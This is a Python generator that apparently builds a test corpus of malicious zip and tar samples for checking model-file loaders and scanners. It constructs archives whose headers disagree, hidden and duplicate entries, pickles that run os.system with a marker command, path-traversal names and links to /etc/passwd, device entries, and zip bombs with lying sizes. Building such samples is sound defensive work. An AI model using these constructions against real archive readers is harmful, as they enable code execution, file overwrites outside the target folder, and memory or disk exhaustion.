"""Zip and tar archives that programs read differently, or that reach out of the folder they are unpacked in."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib

from assemble import assemble
from gadgets import TOUCH, calls
from sample import Family

family = Family("malicious", "archives", "specification")
BAD = assemble(calls("os:system", TOUCH), 2)
GOOD = assemble({"epoch": 3}, 2).ljust(len(BAD), b"\n")
DISAGREE = "programs disagree on what is in it: nothing to load with one of them alone"


class Zip:
    """A zip written header by header (APPNOTE.TXT 6.3.10), so that the two headers of an entry may differ."""

    def __init__(self, prefix=b""):
        self.data, self.central, self.count = bytearray(prefix), bytearray(), 0

    def entry(self, name, data, *, local=None, central=None, **fields):
        """`local` and `central` change fields in one header only: name, size, packed, crc, method, flags, extra, mode."""
        plain = {"name": name, "size": len(data), "packed": len(data), "crc": zlib.crc32(data), "method": 0, "flags": 0, "extra": b"", "mode": 0, "offset": len(self.data)} | fields
        near, far = plain | (local or {}), plain | (central or {})
        self.data += struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, near["flags"], near["method"], 0, 0x21, near["crc"], near["packed"], near["size"], len(near["name"].encode()), len(near["extra"]))
        self.data += near["name"].encode() + near["extra"] + data
        if far["name"] is not None:
            self.central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 0x314, 20, far["flags"], far["method"], 0, 0x21, far["crc"], far["packed"], far["size"], len(far["name"].encode()), len(far["extra"]), 0, 0, 0, far["mode"] << 16, far["offset"])
            self.central += far["name"].encode() + far["extra"]
            self.count += 1
        return self

    def end(self, comment=b"", *, count=None, shift=0):
        self.data += self.central + self.tail(len(self.data) + shift, comment, count)
        return bytes(self.data)

    def tail(self, offset, comment=b"", count=None):
        count = self.count if count is None else count
        return struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(self.central), offset, len(comment)) + comment


def torch(entries_of):
    """The entries of PyTorch's archive around what is tried."""
    file = Zip()
    entries_of(file)
    file.entry("archive/byteorder", b"little").entry("archive/version", b"3\n")
    return file


def add(name, data, why, format="zip", **more):
    family.add(name, data, format, why, effect="process", **(more or {"unproven": DISAGREE}))


STREAM = {"load": "zip-stream"}
add("zip/hidden-local.pt", torch(lambda z: z.entry("archive/data.pkl", BAD, central={"name": None}).entry("archive/data.pkl", GOOD)).end(), "an entry stands before the first that the central directory names: readers of a stream take it", **STREAM)
add("zip/hidden-between.pt", torch(lambda z: z.entry("archive/data.pkl", GOOD).entry("archive/data.pkl", BAD, central={"name": None})).end(), "an entry that the central directory does not name stands between others", load="zip-stream", steps=[1])
add("zip/local-name.pt", torch(lambda z: z.entry("archive/notes.txt", BAD, local={"name": "archive/data.pkl"}).entry("archive/data.pkl", GOOD, central={"name": None})).end(), "the local header calls the entry data.pkl, the central one notes.txt", **STREAM)
add("zip/central-name.pt", torch(lambda z: z.entry("archive/data.pkl", BAD, local={"name": "archive/notes.txt"})).end(), "the central header calls the entry data.pkl, the local one notes.txt", **STREAM)
add("zip/local-size.pt", torch(lambda z: z.entry("archive/data.pkl", GOOD + BAD, central={"size": len(GOOD), "packed": len(GOOD), "crc": zlib.crc32(GOOD)})).end(), "the local header says that the entry is longer")
add("zip/central-size.pt", torch(lambda z: z.entry("archive/data.pkl", GOOD + BAD, local={"size": len(GOOD), "packed": len(GOOD), "crc": zlib.crc32(GOOD)})).end(), "the central header says that the entry is longer")
add("zip/local-method.pt", torch(lambda z: z.entry("archive/data.pkl", GOOD, local={"method": 8})).end(), "the local header says deflated, the central one stored")
add("zip/local-flags.pt", torch(lambda z: z.entry("archive/data.pkl", BAD, local={"flags": 1})).end(), "the local header says encrypted, the central one does not", **STREAM)
add("zip/central-flags.pt", torch(lambda z: z.entry("archive/data.pkl", BAD, central={"flags": 1})).end(), "the central header says encrypted, the local one does not", **STREAM)
add("zip/encrypted.pt", torch(lambda z: z.entry("archive/data.pkl", BAD, flags=1)).end(), "marked as encrypted, and is not", **STREAM)
add("zip/wrong-crc.pt", torch(lambda z: z.entry("archive/data.pkl", BAD, crc=1)).end(), "the checksum is wrong: some readers do not look", **STREAM)
add("zip/duplicate.pt", torch(lambda z: z.entry("archive/data.pkl", GOOD).entry("archive/data.pkl", BAD)).end(), "two entries of one name: readers take the first or the last", load="zip-entry", steps=["archive/data.pkl"])
add("zip/duplicate-first.pt", torch(lambda z: z.entry("archive/data.pkl", BAD).entry("archive/data.pkl", GOOD)).end(), "two entries of one name, the first runs a program", **STREAM)
add("zip/duplicate-case.pt", torch(lambda z: z.entry("archive/data.pkl", GOOD).entry("archive/DATA.PKL", BAD)).end(), "two names that are one where case does not count", load="zip-entry", steps=["archive/DATA.PKL"])
overlap = Zip().entry("archive/data.pkl", BAD)
overlap.entry("archive/other.pkl", BAD, central={"offset": 0})
add("zip/overlap.pt", overlap.end(), "two entries of the central directory share one local header", **STREAM)
inner = Zip().entry("archive/data.pkl", BAD).end()
add("zip/quoted.pt", torch(lambda z: z.entry("archive/data.pkl", inner + GOOD)).end(), "a whole archive lies where the first bytes of an entry are", load="pickle-behind", steps=[30 + 16 + 30 + 16])
good = torch(lambda z: z.entry("archive/data.pkl", GOOD))
bad = torch(lambda z: z.entry("archive/data.pkl", BAD))
add("zip/two-ends.pt", bad.end() + good.end(), "two archives in a row, each with its own end", **STREAM)
good = torch(lambda z: z.entry("archive/data.pkl", GOOD))
end = good.end()
bad = torch(lambda z: z.entry("archive/data.pkl", BAD))
add("zip/end-in-comment.pt", torch(lambda z: z.entry("archive/data.pkl", GOOD)).end(comment=bad.end()), "a whole archive lies in the comment of the other", load="zip-entry", steps=["archive/data.pkl"])
for name, prefix in {"pickle": BAD, "elf": b"\x7fELF" + bytes(60), "script": b"#!/bin/sh\ntouch holdfast-marker\nexit\n", "html": b"<html><script>x</script>"}.items():
    moved = Zip(prefix)
    moved.entry("archive/data.pkl", GOOD)
    more = {"load": "pickle"} if name == "pickle" else {}
    family.add(f"zip/prefix-{name}.pt", moved.end(), "zip", f"{name} stands before the archive: another program reads that", effect="process", **(more or {"unproven": "another program than a loader of models reads it"}))
    shifted = Zip()
    shifted.entry("archive/data.pkl", GOOD)
    family.add(f"zip/prefix-shifted-{name}.pt", prefix + shifted.end(), "zip", f"{name} stands before the archive, whose offsets do not count it", effect="process", **(more or {"unproven": "another program than a loader of models reads it"}))
add("zip/behind.pt", torch(lambda z: z.entry("archive/data.pkl", GOOD)).end() + BAD, "a pickle stands behind the archive", load="pickle-behind", steps=[len(torch(lambda z: z.entry("archive/data.pkl", GOOD)).end())])
add("zip/count.pt", torch(lambda z: z.entry("archive/data.pkl", BAD)).end(count=1), "the end says one entry, the directory holds three")
for name in ("../outside.pkl", "/tmp/outside.pkl", "..\\outside.pkl", "a/../../outside.pkl", "C:\\outside.pkl", "archive/data.pkl\0.txt"):
    word = {"../outside.pkl": "up", "/tmp/outside.pkl": "absolute", "..\\outside.pkl": "backslash", "a/../../outside.pkl": "within", "C:\\outside.pkl": "drive"}.get(name, "nul")
    family.add(f"zip/path-{word}.zip", Zip().entry(name, GOOD).end(), "zip", "an entry whose name leads out of the folder", effect="file", unproven="Python's zipfile changes such names; other programs write where they say")
family.add("zip/symlink.zip", Zip().entry("link", b"/etc", mode=0o120777).entry("link/outside.pkl", GOOD).end(), "zip", "a symbolic link that leads out, and an entry through it", effect="file", unproven="Python's zipfile writes no links; other programs do")
family.add("zip/device.zip", Zip().entry("device", b"", mode=0o060644).end(), "zip", "an entry that is a device", effect="file", unproven="Python's zipfile makes no devices; other programs do")
bomb = zlib.compressobj(9, zlib.DEFLATED, -15)
zeros = bomb.compress(bytes(2**24)) + bomb.flush()
family.add("zip/lying-size.zip", Zip().entry("zeros", zeros, method=8, size=16, crc=zlib.crc32(bytes(2**24))).end(), "zip", "says 16 bytes, and unpacks to 16 MiB", effect="file", unproven="it fills memory or the disk, where nobody counts")
# What unpacks to gigabytes in quadratic size: entries that share one stream.
shared = Zip().entry("0", zeros, method=8, size=2**24, crc=zlib.crc32(bytes(2**24)))
for number in range(1, 30):
    far = {"offset": 0}
    shared.central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 0x314, 20, 0, 8, 0, 0x21, zlib.crc32(bytes(2**24)), len(zeros), 2**24, len(str(number)), 0, 0, 0, 0, 0, 0) + str(number).encode()
    shared.count += 1
family.add("zip/shared-stream.zip", shared.end(), "zip", "thirty entries share one stream of 16 MiB", effect="file", unproven="it fills memory or the disk, where nobody counts")

# Pickles in archives, at all depths, whatever their names.
plain = Zip().entry("model.pkl", BAD).end()
family.add("zip/plain.zip", plain, "zip", "an archive with a pickle that runs", effect="process", load="zip-entry", steps=["model.pkl"])
family.add("zip/renamed.zip", Zip().entry("README.txt", BAD).end(), "zip", "a pickle that runs, named as a text", effect="process", load="zip-entry", steps=["README.txt"])
family.add("zip/nested.zip", Zip().entry("a.zip", Zip().entry("b.zip", plain).end()).end(), "zip", "a pickle that runs, three archives deep", effect="process", load="zip-stream", steps=[2])


# Tar.
def tar(entries, format=tarfile.USTAR_FORMAT, mode="w"):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode, format=format) as file:
        for info, data in entries:
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def node(name, kind=tarfile.REGTYPE, link="", **more):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    info.pax_headers = more
    return info


TAR = {
    "plain": ([(node("model.pkl"), BAD)], {"load": "tar", "steps": ["model.pkl"]}),
    "renamed": ([(node("notes.txt"), BAD)], {"load": "tar", "steps": ["notes.txt"]}),
    "last": ([(node(f"part{number}.txt"), b"text\n") for number in range(9)] + [(node("z"), BAD)], {"load": "tar", "steps": ["z"]}),
    "duplicate": ([(node("model.pkl"), GOOD), (node("model.pkl"), BAD)], {"load": "tar", "steps": ["model.pkl"]}),
    "symlink-marker": ([(node("link", tarfile.SYMTYPE, "."), b""), (node("link/holdfast-marker"), b"x")], {"load": "tar"}),
    "symlink-up": ([(node("link", tarfile.SYMTYPE, "../../etc"), b""), (node("link/outside"), b"x")], {"unproven": "it writes outside of the folder, where the sandbox lets nothing be written"}),
    "symlink-absolute": ([(node("weights", tarfile.SYMTYPE, "/etc/passwd"), b"")], {"unproven": "it makes another file be read"}),
    "hardlink": ([(node("weights", tarfile.LNKTYPE, "/etc/passwd"), b"")], {"unproven": "it makes another file be read"}),
    "path-up": ([(node("../outside"), b"x")], {"unproven": "it writes outside of the folder, where the sandbox lets nothing be written"}),
    "path-absolute": ([(node("/tmp/outside"), b"x")], {"unproven": "it writes outside of the folder, where the sandbox lets nothing be written"}),
    "device": ([(node("null", tarfile.CHRTYPE), b"")], {"unproven": "only root may make devices"}),
    "fifo": ([(node("holdfast-marker", tarfile.FIFOTYPE), b"")], {"load": "tar"}),
}
for name, (entries, more) in TAR.items():
    family.add(f"tar/{name}.tar", tar(entries), "tar", f"unpacking or loading it does harm: {name}", effect="file", **more)
pax = tar([(node("harmless.txt", path="../outside"), b"x")], tarfile.PAX_FORMAT)
family.add("tar/pax-path.tar", pax, "tar", "an extended header gives the entry a path that leads out", effect="file", unproven="it writes outside of the folder, where the sandbox lets nothing be written")
family.add("tar/behind.tar", tar([(node("a.txt"), b"text\n")]) + tar([(node("model.pkl"), BAD)]), "tar", "a second archive stands behind the end of the first", effect="process", unproven="`tar --ignore-zeros` and programs like it go on behind the end")
for mode in ("gz", "bz2", "xz"):
    data = tar([(node("model.pkl"), BAD)], mode=f"w:{mode}")
    if mode == "gz":
        data = gzip.compress(tar([(node("model.pkl"), BAD)]), mtime=0)
    family.add(f"tar/plain.tar.{mode}", data, mode, f"a pickle that runs, in tar and {mode}", effect="process", load="tar", steps=["model.pkl"])

family.finish()
